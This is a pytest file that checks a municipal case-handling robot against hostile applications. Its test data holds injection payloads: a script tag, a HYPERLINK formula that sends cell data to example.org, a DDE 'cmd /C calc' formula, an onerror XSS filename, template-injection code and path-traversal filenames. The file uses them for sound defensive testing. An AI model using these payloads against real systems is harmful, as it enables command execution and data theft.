@@ -1,0 +1,134 @@
+"""Every hostile and odd application in one night: each ends as the hand-written key says, and nothing ends the run."""
+
+from __future__ import annotations
+
+import re
+import unicodedata
+from collections import Counter
+from typing import Any
+
+import pytest
+
+from robots import words
+from robots.cases import CaseContent
+from robots.model import File, State, Unknown
+from tests.hostile.conftest import Night
+from tests.work.municipality import tell
+
+
+def content(night: Night, story: str) -> CaseContent:
+    """What the store has of the case of this story."""
+    with night.town.store() as store:
+        return store.content(store.case(night.number_of(story), "practice"))
+
+
+def read(night: Night, story: str) -> dict[str, Any]:
+    """What was read of the case of this story."""
+    return dict(content(night, story).application or {})
+
+
+def test_each_application_ends_as_the_key_says_and_the_run_ends_well(night: Night) -> None:
+    assert night.robot.process.exitcode == 0, night.robot.said()
+    with night.town.store() as store:
+        ends = Counter(str(case.reason or case.state) for case in store.cases())
+    tell(f"{len(night.key)} hostile and odd applications in one run: {dict(ends)}")
+    assert len(night.key) == sum(ends.values()) == 43
+    assert night.town.amiss() == {}
+    assert State.FAILED not in ends
+
+
+def test_nothing_was_decided_and_nothing_sent_but_the_robots_own_saves(night: Night) -> None:
+    events = night.town.account("/handelser")
+    assert [event for event in events if event["target"] == "fatta"] == []
+    assert night.town.account()["decisions"] == {}
+    drafted = {number for number, right in night.key.items() if right["state"] == "verified"}
+    assert sorted(night.town.writing_posts()) == sorted(drafted)
+
+
+def test_a_page_that_acts_by_itself_is_told_of_as_a_warning_and_in_plain_words(night: Night) -> None:
+    hostile = [number for number, right in night.key.items() if right["expect"].get("handed_over") == "hostile"]
+    assert len(hostile) == 5
+    warnings = [said for said in night.robot.logged() if said.startswith("a page of the case tried to send")]
+    assert len(warnings) == len(hostile)
+    told = content(night, "trycker på Fatta beslut").hand_over or ""
+    assert "Det stoppades: inget skrevs." in told
+    assert "script" not in told
+
+
+def test_every_hand_over_of_what_could_not_be_read_names_the_field_and_says_why_in_swedish(night: Night) -> None:
+    english = set(words._swedish()) - set(words._swedish().values())
+    unreadable = [right["story"] for right in night.key.values() if right["expect"].get("handed_over") == "unreadable"]
+    told = {story: content(night, story).hand_over or "" for story in unreadable}
+    for story, why in told.items():
+        tell(f"{story}: {why}")
+    plain = re.compile(
+        r'"[A-ZÅÄÖ].+" kunde inte läsas säkert: .+|.+: "Underlag" står på sidan 2 gånger; en väntades\. .+'
+    )
+    assert [why for why in told.values() if not plain.fullmatch(why)] == []
+    assert [why for why in told.values() if why.partition(": ")[2] in english] == []
+    assert len(set(told.values())) >= 15
+
+
+@pytest.mark.parametrize(
+    ("story", "field", "text"),
+    [
+        ("HTML och skript", "police_report", "<script>__doPostBack('fatta','')</script>"),
+        ("Formler i fritexten", "police_report", '=HYPERLINK("http://example.org/?"&A1,"klicka")'),
+        ("Formler i fritexten", "stays_in", "@SUM(1+1)*cmd|' /C calc'!A0"),
+        ("fullbreddstecken", "police_report", "＝１＋１"),
+        ("fullbreddstecken", "stays_in", "＠SUM(1)"),
+        ("Emoji", "police_report", "👩\u200d🦽 ❤️\u200d🔥 tack"),
+    ],
+)
+def test_what_was_written_is_kept_to_the_letter(night: Night, story: str, field: str, text: str) -> None:
+    assert read(night, story)[field] == text
+
+
+def test_template_code_stands_in_the_letter_as_it_was_written(night: Night) -> None:
+    number, code = night.number_of("Mallkod"), "{{7*7}} {0.__class__} %s"
+    saved = night.town.account()["cases"][number]["draft"]
+    assert code in saved["motivering"] + saved["anteckning"]
+    assert "49" not in saved["motivering"] + saved["anteckning"]
+
+
+NAMES = {
+    "pekar ut ur sin mapp": ["passwd.pdf", "foto.png"],
+    "förbehållna Windows": ["_CON", "_nul.png"],
+    "HTML, citattecken": ["_img src=x onerror=alert(1)__Set-Cookie_ x=1.pdf"],
+}
+
+
+@pytest.mark.parametrize("story", NAMES)
+def test_a_files_name_is_no_path(night: Night, story: str) -> None:
+    names = [row["file"].name for row in read(night, story)["documents"]]
+    assert names[: len(NAMES[story])] == NAMES[story]
+
+
+def test_no_name_of_a_strangers_reaches_the_file_system(night: Night) -> None:
+    home = night.town.home
+    kept = [path for path in (home.data / "attachments").rglob("*") if path.is_file()]
+    assert kept
+    assert [path for path in kept if not re.fullmatch(r"[0-9a-f]{64}\.sealed", path.name)] == []
+    assert [path for path in home.path.rglob("*") if re.search(r"passwd|CON|nul|intyg|exe|\u202e", path.name)] == []
+
+
+def test_nothing_that_was_kept_is_larger_or_other_than_the_flow_takes(night: Night) -> None:
+    with night.town.store() as store:
+        files = [file for case in store.cases() for file in store.content(case).documents]
+    assert files
+    assert all(isinstance(file, File) and file.size <= 10_000_000 for file in files)
+    assert {file.media_type for file in files} == {"application/pdf", "image/png"}
+
+
+def test_the_log_holds_no_sign_that_steers_a_terminal(night: Night) -> None:
+    written = "".join(path.read_text("utf-8") for path in night.town.home.logs.glob("*.jsonl"))
+    assert {sign for sign in written if unicodedata.category(sign) in ("Cc", "Cf")} <= {"\n"}
+    assert "HYPERLINK" not in written
+
+
+def test_what_could_not_be_read_has_no_value_anywhere(night: Night) -> None:
+    assert read(night, "Styrtecken")["police_report"] == Unknown("it holds control characters or invisible ones")
+    assert read(night, "vänder läsriktningen så")["documents"][0]["file"] == Unknown(
+        "its name ends otherwise than its content is"
+    )
+    assert read(night, "Hundratusen tecken")["stays_in"] == Unknown("it is longer than 10000 characters")
